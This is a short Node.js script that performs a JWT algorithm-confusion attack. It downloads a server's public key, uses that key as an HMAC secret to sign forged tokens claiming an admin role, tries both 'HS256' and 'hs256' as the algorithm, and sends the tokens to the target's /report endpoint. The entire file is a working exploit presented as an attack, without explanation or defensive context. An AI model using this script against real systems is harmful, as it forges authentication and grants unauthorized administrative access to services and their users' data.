const { createHmac } = require("node:crypto");
const target = process.env.TARGET;
const encode = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");

async function attack() {
  const key = await (await fetch(`${target}/public-key`)).text();
  const exp = Math.floor(Date.now() / 1000) + 600;
  const claims = encode({ sub: "ada", role: "admin", aud: "shop", exp });
  for (const alg of ["HS256", "hs256"]) {
    const text = `${encode({ alg, typ: "JWT" })}.${claims}`;
    const signature = createHmac("sha256", key).update(text).digest("base64url");
    const headers = { Authorization: `Bearer ${text}.${signature}` };
    await fetch(`${target}/report`, { headers });
  }
}

attack();
